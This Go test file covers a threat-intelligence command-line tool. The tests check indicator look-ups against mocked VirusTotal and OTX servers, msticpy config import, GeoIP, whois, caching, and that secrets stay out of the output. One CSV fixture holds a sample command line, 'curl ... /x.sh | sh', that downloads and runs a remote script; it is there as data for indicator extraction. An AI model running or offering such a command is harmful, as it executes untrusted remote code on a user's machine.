package cli

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
)

const (
	testVTKey  = "vt-cli-SECRET-7f3a9c"
	testOTXKey = "otx-cli-SECRET-41b2d8"
)

// tiServer answers VirusTotal v3 and OTX in their documented shapes, checking
// the auth headers.
func tiServer(t *testing.T) (*httptest.Server, *atomic.Int64) {
	var hits atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		w.Header().Set("Content-Type", "application/json")
		switch {
		case strings.HasPrefix(r.URL.Path, "/vt/ip_addresses/"):
			if r.Header.Get("x-apikey") != testVTKey {
				w.WriteHeader(401)
				fmt.Fprint(w, `{"error":{"code":"WrongCredentialsError","message":"Wrong API key"}}`)
				return
			}
			ip := strings.TrimPrefix(r.URL.Path, "/vt/ip_addresses/")
			fmt.Fprintf(w, `{"data":{"type":"ip_address","id":%q,"attributes":{"last_analysis_stats":{"harmless":50,"malicious":5,"suspicious":1,"undetected":20},"as_owner":"Evil Hosting","country":"NL","reputation":-20}}}`, ip)
		case strings.HasPrefix(r.URL.Path, "/vt/domains/"):
			w.WriteHeader(404)
			fmt.Fprint(w, `{"error":{"code":"NotFoundError","message":"Domain \"x\" not found"}}`)
		case strings.HasPrefix(r.URL.Path, "/otx/api/v1/indicators/"):
			if r.Header.Get("X-OTX-API-KEY") != testOTXKey {
				w.WriteHeader(403)
				return
			}
			fmt.Fprint(w, `{"indicator":"x","pulse_info":{"count":0,"pulses":[]}}`)
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(srv.Close)
	return srv, &hits
}

// tiConfig writes a settings file with a cache in a temp folder and the
// providers' keys taken from the environment.
func tiConfig(t *testing.T, extra string) string {
	dir := t.TempDir()
	p := filepath.Join(dir, "config.yaml")
	// VirusTotal's free tier allows 4 requests a minute: lift it for the fixture.
	if !strings.Contains(extra, "ti:") {
		extra = "ti:\n  providers:\n    virustotal:\n      rate_per_minute: 6000\n" + extra
	}
	body := fmt.Sprintf("cache:\n  path: %s\n%s", filepath.Join(dir, "lookups.db"), extra)
	if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

func TestTILookup(t *testing.T) {
	srv, hits := tiServer(t)
	t.Setenv("QUARRY_VT_KEY", testVTKey)
	t.Setenv("QUARRY_OTX_KEY", testOTXKey)
	cfg := tiConfig(t, "")
	args := []string{"--config", cfg, "ti", "lookup", "185.220.101.1", "evil[.]example.com", "10.0.0.1",
		"--providers", "vt,otx", "--base-url", "vt=" + srv.URL + "/vt", "--base-url", "otx=" + srv.URL + "/otx", "-o", "json"}
	out, errOut, code := run(t, "", args...)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	var rs []map[string]any
	if err := json.Unmarshal([]byte(out), &rs); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	// 10.0.0.1 rejected once; the IP to both; the domain to both.
	if len(rs) != 5 {
		t.Fatalf("%d results:\n%s", len(rs), out)
	}
	by := map[string]map[string]any{}
	for _, r := range rs {
		by[r["provider"].(string)+" "+r["ioc"].(string)] = r
		for _, k := range []string{"provider", "ioc", "ioc_type", "found", "severity", "status", "time"} {
			if _, ok := r[k]; !ok {
				t.Errorf("result lacks %q: %v", k, r)
			}
		}
	}
	vt := by["virustotal 185.220.101.1"]
	if vt == nil || vt["severity"] != "high" || vt["found"] != true || vt["status"] != "ok" || vt["ioc_type"] != "ipv4" {
		t.Errorf("vt ip = %v", vt)
	}
	if d, _ := vt["details"].(map[string]any); d == nil || d["malicious"] != float64(5) {
		t.Errorf("vt details = %v", vt["details"])
	}
	if r := by["virustotal evil.example.com"]; r == nil || r["status"] != "not found" || r["found"] != false {
		t.Errorf("vt domain = %v", r)
	}
	if r := by["otx 185.220.101.1"]; r == nil || r["status"] != "not found" || r["severity"] != "information" {
		t.Errorf("otx ip = %v", r)
	}
	if r := by["quarry 10.0.0.1"]; r == nil || r["status"] != "bad format" || !strings.Contains(r["reason"].(string), "not a public address") {
		t.Errorf("private ip = %v", r)
	}
	for _, s := range []string{out, errOut} {
		if strings.Contains(s, testVTKey) || strings.Contains(s, testOTXKey) {
			t.Fatalf("a key reached the output:\n%s", s)
		}
	}
	// The second run is answered from the cache: no request reaches the server.
	before := hits.Load()
	out, _, code = run(t, "", args...)
	if code != 0 || hits.Load() != before {
		t.Errorf("second run: exit %d, %d new requests", code, hits.Load()-before)
	}
	if !strings.Contains(out, `"cached": true`) && !strings.Contains(out, `"cached":true`) {
		t.Errorf("second run not marked cached:\n%.400s", out)
	}
	// --no-cache asks again.
	run(t, "", append(args, "--no-cache")...)
	if hits.Load() == before {
		t.Error("--no-cache did not ask the providers")
	}
	// Table output: one row per indicator and provider, grouped.
	out, _, code = run(t, "", append(args[:len(args)-2], "-o", "csv")...)
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if code != 0 || len(lines) != 6 || lines[0] != "ioc,ioc_type,provider,severity,found,status,details,reference" {
		t.Fatalf("csv (exit %d):\n%s", code, out)
	}
}

func TestTILookupErrors(t *testing.T) {
	srv, _ := tiServer(t)
	cfg := tiConfig(t, "")
	t.Setenv("QUARRY_VT_KEY", "wrong-SECRET-key")
	out, errOut, code := run(t, "", "--config", cfg, "ti", "lookup", "185.220.101.1", "--providers", "vt",
		"--base-url", "vt="+srv.URL+"/vt", "-o", "json", "--no-cache")
	if code != 1 || !strings.Contains(out, "authorization failed") || !strings.Contains(errOut, "every look-up failed") {
		t.Errorf("bad key: exit %d\n%s\n%s", code, out, errOut)
	}
	if strings.Contains(out+errOut, "wrong-SECRET-key") {
		t.Error("the key reached the output")
	}
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"ti", "lookup", "8.8.8.8", "--providers", "nosuch"}, `no provider "nosuch"`},
		{[]string{"ti", "lookup", "8.8.8.8", "--base-url", "vt"}, "PROVIDER=URL"},
		{[]string{"ti", "lookup", "8.8.8.8", "--scope", "most"}, "--scope"},
		{[]string{"ti", "lookup", "--column", "x"}, "--column needs --input"},
		{[]string{"ti", "lookup", "notanioc", "10.0.0.1", "--providers", "vt"}, "every indicator was rejected"},
		{[]string{"cache", "clear", "--provider", "nosuch"}, "known: virustotal, otx,"},
	} {
		_, errOut, code := run(t, "", append([]string{"--config", cfg}, c.args...)...)
		if code != 2 || !strings.Contains(errOut, c.want) {
			t.Errorf("%v: exit %d, %s", c.args, code, errOut)
		}
	}
}

func TestTILookupFromFileColumn(t *testing.T) {
	srv, _ := tiServer(t)
	t.Setenv("QUARRY_VT_KEY", testVTKey)
	cfg := tiConfig(t, "")
	p := filepath.Join(t.TempDir(), "events.csv")
	os.WriteFile(p, []byte("Host,CommandLine\nWIN1,\"curl http://185.220.101.1/x.sh | sh\"\nWIN2,notepad.exe\n"), 0o600)
	out, errOut, code := run(t, "", "--config", cfg, "ti", "lookup", "--input", p, "--column", "CommandLine", "--providers", "vt",
		"--base-url", "vt="+srv.URL+"/vt", "-o", "jsonl")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	// The command line's URL (VT has no /urls/ fixture: not found) and its host address.
	if !strings.Contains(out, `"ioc":"185.220.101.1"`) || !strings.Contains(out, `"ioc":"http://185.220.101.1/x.sh"`) {
		t.Errorf("jsonl:\n%s", out)
	}
}

func TestTIProviders(t *testing.T) {
	t.Setenv("QUARRY_VT_KEY", testVTKey)
	t.Setenv("QUARRY_ABUSEIPDB_KEY", "")
	cfg := tiConfig(t, "ti:\n  primary: [vt, otx]\n  secondary: [xforce]\n")
	out, errOut, code := run(t, "", "--config", cfg, "ti", "providers", "-o", "json")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	rows := decodeRows(t, out)
	if len(rows) != 8 {
		t.Fatalf("%d providers", len(rows))
	}
	got := map[string]map[string]any{}
	for _, r := range rows {
		got[r["name"].(string)] = r
	}
	if r := got["virustotal"]; r["key"] != "set (environment QUARRY_VT_KEY)" || r["set"] != "primary" || r["rate"] != "4/min" {
		t.Errorf("virustotal = %v", r)
	}
	if r := got["abuseipdb"]; !strings.HasPrefix(r["key"].(string), "missing: set QUARRY_ABUSEIPDB_KEY") {
		t.Errorf("abuseipdb = %v", r)
	}
	if got["xforce"]["set"] != "secondary" || got["tor"]["key"] != "not needed" {
		t.Errorf("xforce/tor = %v / %v", got["xforce"], got["tor"])
	}
	if strings.Contains(out, testVTKey) {
		t.Error("the key reached the output")
	}
}

func TestConfigCheckAndImport(t *testing.T) {
	t.Setenv("QUARRY_VT_KEY", testVTKey)
	t.Setenv("MY_OTX", testOTXKey)
	dir := t.TempDir()
	ms := filepath.Join(dir, "msticpyconfig.yaml")
	os.WriteFile(ms, []byte(`TIProviders:
  OTX:
    Args:
      AuthKey:
        EnvironmentVar: MY_OTX
    Primary: True
    Provider: OTX
  VirusTotal:
    Args:
      AuthKey: literal-SECRET-from-msticpy
    Primary: False
    Provider: VirusTotal
OtherProviders:
  GeoIPLite:
    Args:
      AccountID: "12345"
      AuthKey:
        EnvironmentVar: MAXMIND_KEY
      DBFolder: ~/.msticpy/GeoLite2
`), 0o600)
	cfg := filepath.Join(dir, "quarry", "config.yaml")
	out, errOut, code := run(t, "", "--config", cfg, "config", "import-msticpy", ms, "--dry-run")
	if code != 0 || strings.Contains(out, "literal-SECRET-from-msticpy") || !strings.Contains(out, "env:MY_OTX") {
		t.Fatalf("dry run: exit %d\n%s\n%s", code, out, errOut)
	}
	out, errOut, code = run(t, "", "--config", cfg, "config", "import-msticpy", ms)
	if code != 0 || !strings.Contains(out, "wrote "+cfg+" (mode 0600): 2 providers (otx, virustotal)") {
		t.Fatalf("import: exit %d\n%s\n%s", code, out, errOut)
	}
	if st, err := os.Stat(cfg); err != nil || st.Mode().Perm() != 0o600 {
		t.Fatalf("settings file: %v %v", st, err)
	}
	_, errOut, code = run(t, "", "--config", cfg, "config", "import-msticpy", ms)
	if code != 2 || !strings.Contains(errOut, "--force") {
		t.Errorf("second import: exit %d %s", code, errOut)
	}
	out, errOut, code = run(t, "", "--config", cfg, "config", "check", "-o", "json")
	for _, s := range []string{testVTKey, testOTXKey, "literal-SECRET-from-msticpy"} {
		if strings.Contains(out+errOut, s) {
			t.Fatalf("config check printed a secret:\n%s\n%s", out, errOut)
		}
	}
	rows := decodeRows(t, out)
	var otx, vt map[string]any
	for _, r := range rows {
		if r["area"] == "ti" && r["name"] == "otx" && otx == nil {
			otx = r
		}
		if r["area"] == "ti" && strings.Contains(r["name"].(string), "virustotal") && r["state"] == "warning" {
			vt = r
		}
	}
	if otx == nil || otx["state"] != "set" || !strings.Contains(otx["detail"].(string), "env:MY_OTX") {
		t.Errorf("otx check = %v", otx)
	}
	if vt == nil || !strings.Contains(vt["detail"].(string), "written in the settings file") {
		t.Errorf("the literal VT key is not warned about: %v", rows)
	}
	_ = code
}

func TestGeoIPCommand(t *testing.T) {
	cfg := tiConfig(t, "")
	db := "../providers/geoip/testdata/GeoIP2-City-Test.mmdb"
	asn := "../providers/geoip/testdata/GeoLite2-ASN-Test.mmdb"
	out, errOut, code := run(t, "", "--config", cfg, "geoip", "--db", db, "--asn-db", asn, "81.2.69.160", "1.128.0.1", "10.1.1.1", "-o", "json")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	var locs []map[string]any
	if err := json.Unmarshal([]byte(out), &locs); err != nil || len(locs) != 3 {
		t.Fatalf("%v\n%s", err, out)
	}
	for _, k := range []string{"ip", "country_code", "country", "subdivision", "city", "latitude", "longitude", "asn", "asn_org"} {
		if _, ok := locs[0][k]; !ok {
			t.Errorf("no %q in %v", k, locs[0])
		}
	}
	if locs[0]["city"] != "London" || locs[0]["country_code"] != "GB" {
		t.Errorf("81.2.69.160 = %v", locs[0])
	}
	if locs[1]["asn"] != float64(1221) {
		t.Errorf("1.128.0.1 = %v", locs[1])
	}
	if locs[2]["ip_type"] != "Private" || locs[2]["source"] != "local" {
		t.Errorf("10.1.1.1 = %v", locs[2])
	}
	_, errOut, code = run(t, "", "--config", cfg, "geoip", "--db", filepath.Join(t.TempDir(), "none.mmdb"), "81.2.69.160")
	if code != 2 || !strings.Contains(errOut, "geoip update") {
		t.Errorf("missing db: exit %d %s", code, errOut)
	}
	_, errOut, code = run(t, "", "--config", cfg, "geoip", "--db", db, "not-an-ip")
	if code != 2 || !strings.Contains(errOut, "not an IP address") {
		t.Errorf("bad ip: exit %d %s", code, errOut)
	}
}

func TestWhoisCommand(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/rdap+json")
		if r.URL.Path != "/ip/81.2.69.160" {
			w.WriteHeader(404)
			return
		}
		fmt.Fprint(w, `{"objectClassName":"ip network","handle":"81.2.69.0 - 81.2.69.255","startAddress":"81.2.69.0","endAddress":"81.2.69.255","ipVersion":"v4","name":"EXAMPLE-NET","type":"ASSIGNED PA","country":"GB","status":["active"],"events":[{"eventAction":"registration","eventDate":"2005-01-01T00:00:00Z"}],"entities":[{"objectClassName":"entity","handle":"ABUSE1","roles":["abuse"],"vcardArray":["vcard",[["version",{},"text","4.0"],["fn",{},"text","Abuse Desk"],["email",{},"text","abuse@example.net"]]]}]}`)
	}))
	defer srv.Close()
	cfg := tiConfig(t, "")
	out, errOut, code := run(t, "", "--config", cfg, "whois", "81.2.69.160", "--server", srv.URL, "-o", "json")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	var r map[string]any
	if err := json.Unmarshal([]byte(out), &r); err != nil {
		t.Fatal(err)
	}
	if r["name"] != "EXAMPLE-NET" || r["country"] != "GB" || r["kind"] != "ip" {
		t.Errorf("whois = %v", r)
	}
	out, _, code = run(t, "", "--config", cfg, "whois", "81.2.69.160", "--server", srv.URL)
	if code != 0 || !strings.Contains(out, "EXAMPLE-NET") || !strings.Contains(out, "abuse@example.net") {
		t.Errorf("table:\n%s", out)
	}
	_, errOut, code = run(t, "", "--config", cfg, "whois", "10.0.0.1", "--server", srv.URL)
	if code != 2 {
		t.Errorf("private address: exit %d %s", code, errOut)
	}
}

func TestCacheCommands(t *testing.T) {
	srv, _ := tiServer(t)
	t.Setenv("QUARRY_VT_KEY", testVTKey)
	cfg := tiConfig(t, "")
	run(t, "", "--config", cfg, "ti", "lookup", "185.220.101.1", "185.220.101.2", "--providers", "vt", "--base-url", "vt="+srv.URL+"/vt")
	out, errOut, code := run(t, "", "--config", cfg, "cache", "stats", "-o", "json")
	if code != 0 || !strings.Contains(out, `"provider":"virustotal"`) || !strings.Contains(out, `"entries":2`) {
		t.Fatalf("stats: exit %d\n%s\n%s", code, out, errOut)
	}
	out, _, code = run(t, "", "--config", cfg, "cache", "clear", "--provider", "vt")
	if code != 0 || !strings.Contains(out, "cleared 2 cached answers (virustotal's)") {
		t.Errorf("clear: exit %d %s", code, out)
	}
	out, _, _ = run(t, "", "--config", cfg, "cache", "clear")
	if !strings.Contains(out, "cleared 0 cached answers") {
		t.Errorf("clear all: %s", out)
	}
}

// The workbench's engine is built once a session (rate limits and the Tor
// list hold across look-ups); the cache is opened for each look-up.
func TestLookupEngineKeptForTheSession(t *testing.T) {
	t.Setenv("QUARRY_VT_KEY", testVTKey)
	cfg := tiConfig(t, "")
	app := &App{Env: Env{Stdout: io.Discard, Stderr: io.Discard}, configPath: cfg}
	e1, _, done1, err := app.LookupEngine([]string{"vt"})
	if err != nil {
		t.Fatal(err)
	}
	if e1.Cache == nil {
		t.Fatal("no cache")
	}
	done1()
	e2, _, done2, err := app.LookupEngine([]string{"vt"})
	if err != nil {
		t.Fatal(err)
	}
	defer done2()
	if e1 == e2 || e1.Providers[0] != e2.Providers[0] || e2.Cache == nil {
		t.Errorf("providers not shared across look-ups, or no cache: %p %p", e1.Providers[0], e2.Providers[0])
	}
}
